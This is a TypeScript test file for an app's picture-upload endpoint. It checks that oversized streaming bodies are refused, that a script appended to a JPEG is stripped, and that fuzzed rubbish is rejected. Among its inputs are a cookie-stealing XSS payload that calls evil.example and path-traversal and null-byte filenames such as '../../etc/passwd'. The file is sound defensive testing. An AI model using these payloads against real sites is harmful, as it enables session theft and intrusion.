import { request } from 'node:http';
import { Problem } from '@showup/contract/endpoint';
import { mediaTexts, UPLOAD_PATH } from '@showup/contract/platform/media';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startTestApp, type TestApp } from '#test/app/test-app';
import { aUser, type Person } from '#test/people/people';
import { aPicture } from '#test/people/pictures';
import { receiving } from './receiving.ts';

const MB = 1_000_000;

let app: TestApp;
let anna: Person;

beforeAll(async () => {
  app = await startTestApp();
  anna = await aUser(app, { isConnected: false });
});
afterAll(() => app.close());

const cookies = () => [...anna.cookies].map(([name, value]) => `${name}=${value}`).join('; ');

/** The number of pictures, claimed or not. */
async function pictures(): Promise<number> {
  const [row] = await app.db.sql<[{ count: number }]>`select count(*)::int as count from media`;
  return row.count;
}

interface Endless {
  readonly status: number | undefined;
  /** Bytes sent before the answer arrived. */
  readonly sent: number;
  /** The most bytes of unfinished uploads that the server held at a time. */
  readonly held: number;
  /** The increase of memory at its peak, in bytes. */
  readonly peak: number;
}

/** Sends `head` and then 100 MB, as fast as they are accepted, until an answer arrives. */
function sendEndlessly(head: string): Promise<Endless> {
  const piece = Buffer.alloc(64 * 1024, 'a');
  const before = process.memoryUsage().arrayBuffers;
  let [peak, held] = [0, 0];
  let sent = 0;
  return new Promise((resolve, reject) => {
    const upload = request(new URL(UPLOAD_PATH, app.url), {
      method: 'POST',
      headers: { cookie: cookies(), 'content-type': 'multipart/form-data; boundary=edge' },
    });
    function pour(): void {
      while (sent < 100 * MB && !upload.destroyed) {
        sent += piece.length;
        peak = Math.max(peak, process.memoryUsage().arrayBuffers - before);
        held = Math.max(held, receiving.state().bytes);
        if (!upload.write(piece)) return void upload.once('drain', pour);
      }
      upload.end('\r\n--edge--\r\n');
    }
    upload.on('response', (response) => {
      resolve({ status: response.statusCode, sent, held, peak });
      upload.destroy();
    });
    upload.on('error', reject);
    upload.write(head);
    pour();
  });
}

const field = (name: string) => `--edge\r\ncontent-disposition: form-data; name="${name}"`;

const endless: readonly [string, string][] = [
  ['file', `${field('file')}; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`],
  ['field', `${field('preset')}\r\n\r\n`],
  ['field after the file', `${field('file')}; filename="a.jpg"\r\n\r\na\r\n${field('x')}\r\n\r\n`],
  ['text before the first field', ''],
];

test.each(endless)('an endless %s is refused at the limit, and the rest is not held', async (what, head) => {
  const known = await pictures();
  const { status, held } = await sendEndlessly(head);
  expect(status).toBe(413);
  if (what === 'file') expect(held).toBeGreaterThan(0); // the others may be refused before the first look
  expect(held).toBeLessThan(20 * MB);
  expect(await pictures()).toBe(known);
  await expect.poll(() => receiving.state().bytes).toBe(0);
});

test.each(endless)(
  'an endless %s is not read beyond the limit, and costs little memory',
  {
    tags: ['timing'],
  },
  async (_, head) => {
    const { sent, peak } = await sendEndlessly(head);
    expect(sent).toBeLessThan(30 * MB); // the limit, and socket buffers
    expect(peak).toBeLessThan(40 * MB);
  },
);

test('a script appended to a JPEG is removed', async () => {
  const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
  const { secure_url } = await anna.upload(Buffer.concat([await aPicture(), Buffer.from(script)]), 'profile');
  const shown = await anna.request(secure_url);
  expect(shown.headers.get('content-type')).toBe('image/webp');
  expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
  expect(Buffer.from(await shown.arrayBuffer()).includes('script')).toBe(false);
});

test('a HEIC from a phone is refused with the accepted formats', async () => {
  const heic = Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from('ftypheic\0\0\0\0mif1heic'),
    Buffer.alloc(4_000, 1),
  ]);
  const refused: unknown = await anna.upload(heic, 'profile').catch((error: unknown) => error);
  expect(refused).toMatchObject({ status: 415, problem: { message: mediaTexts.heic } });
});

const nastyBytes = fc.oneof(
  fc.uint8Array({ maxLength: 3_000 }),
  // Starts of pictures, followed by rubbish.
  fc
    .tuple(
      fc.constantFrom(
        '\xff\xd8\xff\xe0\0\x10JFIF\0',
        '\x89PNG\r\n\x1a\n',
        'GIF89a',
        'RIFF\0\0\0\0WEBPVP8 ',
        '<svg ',
      ),
      fc.uint8Array({ maxLength: 2_000 }),
    )
    .map(([head, rest]) => new Uint8Array(Buffer.concat([Buffer.from(head, 'latin1'), rest]))),
);
const nastyName = fc.oneof(
  fc.constantFrom('', '../../etc/passwd', 'a.jpg\0.exe', '.'.repeat(300), 'ä😀.jpg'),
  fc.string({ maxLength: 40 }),
);

test('200 uploads of rubbish are refused, and none leaves a picture behind', async () => {
  const known = await pictures();
  await fc.assert(
    fc.asyncProperty(
      nastyBytes,
      nastyName,
      fc.oneof(fc.constantFrom('profile', 'chat', 'verification', 'avatar'), fc.string({ maxLength: 20 })),
      fc.constantFrom('file', 'preset', 'x'),
      async (bytes, name, preset, field) => {
        const form = new FormData();
        form.append(field, new Blob([Buffer.from(bytes)]), name);
        form.append('preset', preset);
        const response = await anna.request(UPLOAD_PATH, { method: 'POST', body: form });
        expect(response.status).toBeGreaterThanOrEqual(400);
        expect(response.status).toBeLessThan(500);
        Problem.parse(await response.json());
      },
    ),
    { numRuns: 200 },
  );
  expect(await pictures()).toBe(known);
});

test('200 bodies that are not forms are refused', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.string({ maxLength: 500 }),
      fc.constantFrom(
        'multipart/form-data',
        'multipart/form-data; boundary=',
        'multipart/form-data; boundary=edge',
        'application/json',
        'text/plain',
        'image/jpeg',
      ),
      async (body, type) => {
        const response = await anna.request(UPLOAD_PATH, {
          method: 'POST',
          headers: { 'content-type': type },
          body,
        });
        expect(response.status).toBeGreaterThanOrEqual(400);
        expect(response.status).toBeLessThan(500);
      },
    ),
    { numRuns: 200 },
  );
});
